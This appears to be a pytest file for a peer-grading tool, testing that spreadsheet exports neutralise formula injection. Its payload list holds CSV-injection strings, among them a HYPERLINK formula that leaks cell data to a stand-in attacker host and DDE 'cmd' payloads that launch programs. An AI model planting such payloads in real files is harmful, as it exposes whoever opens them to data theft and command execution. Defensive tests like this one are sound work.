"""Spreadsheets take no cell of ours for a formula, and what commands read back is what was written."""

import csv
import io
import xml.etree.ElementTree
import zipfile
from pathlib import Path

import pytest

from peerorder.cli import run
from peerorder.cli.assign import assign
from peerorder.cli.grade import grade
from peerorder.files import table_bytes
from peerorder.files.formats.formulas import without_formula
from peerorder.files.formats.kinds import EXPORT
from peerorder.web.lifecycle.export import READ_BACK

PAYLOADS = (
    '=HYPERLINK("http://evil.example.org/"&A2,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "-",
    "--5",
    "-5+5",
)
HARMLESS = ("", "good", "a=b", "5", "-5", "+3.25", "-1.5e-7", "12%", "1-2", "'=1", "x@example.edu")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_a_text(payload):
    assert without_formula(payload) == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay(text):
    assert without_formula(text) == text


def rows(path):
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def cells(data):
    return [row["text"] for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))]


def test_only_files_for_people_change():
    columns = {"text": [*PAYLOADS, *HARMLESS], "number": [-1.5] * (len(PAYLOADS) + len(HARMLESS))}
    kept = table_bytes(Path("x.csv"), columns)
    assert cells(kept) == [*PAYLOADS, *HARMLESS]
    opened = table_bytes(Path("x.csv"), columns, EXPORT)
    assert cells(opened) == [*(f"'{each}" for each in PAYLOADS), *HARMLESS]
    assert b"-1.5" in opened
    assert b"'-1.5" not in opened


def test_workbooks_say_what_is_text():
    data = table_bytes(Path("x.xlsx"), {"text": [*PAYLOADS[:4]]}, EXPORT)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = xml.etree.ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    named = {element.tag.rpartition("}")[2] for element in sheet.iter()}
    assert "f" not in named
    assert {"c", "v"} <= named or "is" in named


def test_what_the_command_line_reads_of_an_export_is_known():
    """Files of the export that are inputs of a command, by the names of its options."""
    inputs = {f"{parameter.name}.csv" for command in (grade, assign) for parameter in command.params}
    outputs = {"letters.csv", "graders.csv", "students.csv", "out.csv", "report.csv"}
    exported = {"roster.csv", "codes.csv", "handout.csv", "rankings.csv", "comments.csv", "problems.csv", "events.csv"}
    assert set(READ_BACK) == exported & (inputs - outputs)


def test_mail_merge_is_for_people_and_hand_outs_are_read_back(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    students = [f"=s{number}" for number in range(12)]
    with roster.open("w", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["student", "name", "email"])
        writer.writerows([student, '=HYPERLINK("http://evil")', f"{student[1:]}@example.edu"] for student in students)
    out, letters = tmp_path / "handout.csv", tmp_path / "letters.csv"
    words = ["assign", str(roster), "-k", "3", "--out", str(out), "--letters", str(letters), "--no-codes"]
    assert run(words) == 0, capsys.readouterr()
    merged = rows(letters)
    assert {row["name"] for row in merged} == {'\'=HYPERLINK("http://evil")'}
    assert {row["grader"] for row in merged} == {f"'{student}" for student in students}
    assert {row["grader"] for row in rows(out)} == set(students)
    form = tmp_path / "letters-form.csv"
    assert {row["grader"] for row in rows(form)} == set(students)
    # The form comes back as rankings.
    filled = [{**row, "rank": at % 3 + 1} for at, row in enumerate(rows(form))]
    with (tmp_path / "rankings.csv").open("w", newline="") as stream:
        writer = csv.DictWriter(stream, ["grader", "paper", "rank"], extrasaction="ignore")
        writer.writeheader()
        writer.writerows(filled)
    words = ["grade", str(tmp_path / "rankings.csv"), "--roster", str(roster), "--handout", str(out)]
    assert run([*words, "--rule", "borda", "--out", str(tmp_path / "grades.csv")]) == 0, capsys.readouterr()
    assert {row["paper"] for row in rows(tmp_path / "grades.csv")} == set(students)
